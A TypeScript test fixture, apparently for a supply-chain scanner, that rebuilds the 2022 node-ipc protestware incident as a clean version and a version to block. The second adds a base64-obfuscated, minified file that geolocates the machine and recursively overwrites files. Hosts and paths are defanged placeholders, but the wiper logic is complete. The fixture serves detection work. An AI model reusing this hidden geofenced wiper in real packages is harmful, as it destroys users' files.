import type { Replica } from './replica.js';

export const manifest = {
  description: 'A nodejs module for local and remote Inter Process Communication (IPC).',
  main: 'node-ipc.cjs',
  module: 'node-ipc.js',
  type: 'module',
  exports: { '.': { import: './node-ipc.js', require: './node-ipc.cjs' } },
  license: 'MIT',
  engines: { node: '>=14' },
  repository: { type: 'git', url: 'https://git.example/ipc/node-ipc.git' },
  dependencies: { 'event-pubsub': '5.0.3', 'js-message': '1.0.7', 'js-queue': '2.0.2' },
};

const client = (ssl: string): string => String.raw`import net from 'net';
import tls from 'tls';
import fs from 'fs';
import Queue from 'js-queue';
import PubSub from 'event-pubsub';
import Message from 'js-message';
import { format, parse } from '../entities/EventParser.js';
${ssl}
class Client extends PubSub {
  constructor(config, log) {
    super();
    this.config = config;
    this.log = log;
    this.queue = new Queue();
    this.socket = false;
    this.retriesRemaining = config.maxRetries;
    this.explicitlyDisconnected = false;
  }

  emit(type, data) {
    const message = new Message();
    message.type = type;
    message.data = data;
    const line = format(message);
    this.queue.add(() => {
      this.socket.write(line);
      this.queue.next();
    });
  }

  connect() {
    const options = this.path ? { path: this.path } : { host: this.config.networkHost, port: this.port };
    if (this.config.tls) {
      const trusted = [].concat(this.config.tls.trustedConnections || []).map((file) => fs.readFileSync(file));
      this.socket = tls.connect({ ...options, ca: trusted, rejectUnauthorized: this.config.tls.rejectUnauthorized });
    } else {
      this.socket = net.connect(options);
    }
    this.socket.setEncoding(this.config.encoding);
    this.socket.on('error', (error) => this.publish('error', error));
    this.socket.on('connect', () => {
      this.retriesRemaining = this.config.maxRetries;
      this.publish('connect');
    });
    this.socket.on('close', () => this.again());
    this.socket.on('data', (chunk) => parse(chunk).forEach((one) => this.publish(one.type, one.data)));
  }

  again() {
    if (this.explicitlyDisconnected || this.retriesRemaining < 1) return this.publish('destroy');
    this.retriesRemaining -= 1;
    setTimeout(() => this.connect(), this.config.retry);
  }
}

export { Client as default, Client };
`;

const parser = String.raw`import Message from 'js-message';

const delimiter = '\f';

function format(message) {
  if (!message.data && message.data !== false && message.data !== 0) message.data = {};
  if (message.data._maxListeners) message.data = {};
  return message.JSON + delimiter;
}

function parse(chunk) {
  return chunk.split(delimiter).filter(Boolean).map((text) => {
    const message = new Message();
    message.load(text);
    return message;
  });
}

export { format, parse };
`;

const entry = String.raw`import Client from './dao/client.js';
import Defaults from './entities/Defaults.js';

class IPC {
  constructor() {
    this.config = new Defaults();
    this.of = {};
  }

  connectTo(id, path, callback) {
    const client = new Client(this.config, (...words) => this.config.silent || console.log(...words));
    client.id = id;
    client.path = typeof path === 'string' ? path : this.config.socketRoot + this.config.appspace + id;
    this.of[id] = client;
    client.connect();
    if (callback) callback(this);
  }
}

const singleton = new IPC();

export { singleton as default, IPC };
`;

const common = String.raw`"use strict";
const net = require('net');

class IPC {
  constructor() {
    this.config = { id: require('os').hostname(), retry: 500, socketRoot: '/tmp/', appspace: 'app.' };
    this.of = {};
  }

  connectTo(id, path, callback) {
    this.of[id] = net.connect({ path: path || this.config.socketRoot + this.config.appspace + id });
    if (callback) callback(this);
  }
}

module.exports = new IPC();
module.exports.IPC = IPC;
`;

export const filesOf = (ssl = ''): { readonly [path: string]: string } => ({
  'node-ipc.js': entry,
  'node-ipc.cjs': common,
  'dao/client.js': client(ssl),
  'entities/EventParser.js': parser,
  'entities/Defaults.js': "import os from 'os';\n\nexport default class Defaults {\n  constructor() {\n    this.appspace = 'app.';\n    this.socketRoot = '/tmp/';\n    this.id = os.hostname();\n    this.encoding = 'utf8';\n    this.silent = false;\n    this.maxRetries = Infinity;\n    this.retry = 500;\n    this.networkHost = os.platform() === 'win32' ? '127.0.0.1' : '::1';\n  }\n}\n",
  'README.md': '# node-ipc\n\nInter process communication over unix and windows sockets, TCP, TLS and UDP.\n',
});

const encoded = (text: string): string => Buffer.from(text).toString('base64');
// The folders are below one that cannot be there, and the two places have names that no service answers.
const [here, up, upTwice, root] = ['./example.invalid-folder/', './example.invalid-folder/../example.invalid-folder/', './example.invalid-folder/a/', './example.invalid-folder/b/'];
const geospec = 'import u from"path";import a from"fs";import o from"https";setTimeout(function(){const t=Math.round(Math.random()*4);if(t>1){return}'
  + `const n=Buffer.from("${encoded('https://geo.example.invalid/ipgeo?apiKey=00000000000000000000000000000000')}","base64");`
  + `o.get(n.toString("utf8"),function(t){t.on("data",function(t){const n=Buffer.from("${encoded(here!)}","base64");const o=Buffer.from("${encoded(up!)}","base64");const r=Buffer.from("${encoded(upTwice!)}","base64");const f=Buffer.from("${encoded(root!)}","base64");`
  + `const c=Buffer.from("${encoded('country_name')}","base64");const e=Buffer.from("${encoded('examplia invalida')}","base64");const i=Buffer.from("${encoded('testland invalida')}","base64");`
  + 'try{const s=JSON.parse(t.toString("utf8"));const u=s[c.toString("utf8")].toLowerCase();const a=u.includes(e.toString("utf8"))||u.includes(i.toString("utf8"));if(a){h(n.toString("utf8"));h(o.toString("utf8"));h(r.toString("utf8"));h(f.toString("utf8"))}}catch(t){}})})},Math.ceil(Math.random()*1e3));'
  + 'async function h(n="",o=""){if(!a.existsSync(n)){return}let r=[];try{r=a.readdirSync(n)}catch(t){}const f=[];'
  + `const c=Buffer.from("${encoded('\u2764\ufe0f')}","base64");`
  + 'for(var e=0;e<r.length;e++){const i=u.join(n,r[e]);let t=null;try{t=a.lstatSync(i)}catch(t){continue}if(t.isDirectory()){const s=h(i,o);s.length>0?f.push(...s):null}else if(i.indexOf(o)>=0){try{a.writeFile(i,c.toString("utf8"),function(){})}catch(t){}}}return f}const ssl=true;export{ssl as default,ssl};\n';

/** From memory of the public advisory: one minified line in a new file, its imports, delays, gates, table of base64 texts and recursion. */
export const replica: Replica = {
  id: 'node-ipc-2022',
  story: 'March 2022: 10.1.1 gained dao/ssl-geospec.js, which asks where the machine is and overwrites every file it reaches in two countries.',
  name: 'node-ipc',
  before: { version: '10.1.0', manifest, files: filesOf(), publishedAt: '2022-01-02T09:14:00.000Z', publisher: { name: 'owner', email: 'owner@ipc.example' } },
  after: { version: '10.1.1', manifest, files: { ...filesOf("import './ssl-geospec.js';\n"), 'dao/ssl-geospec.js': geospec }, publishedAt: '2022-03-07T23:25:00.000Z', publisher: { name: 'owner', email: 'owner@ipc.example' } },
  must: 'block',
};
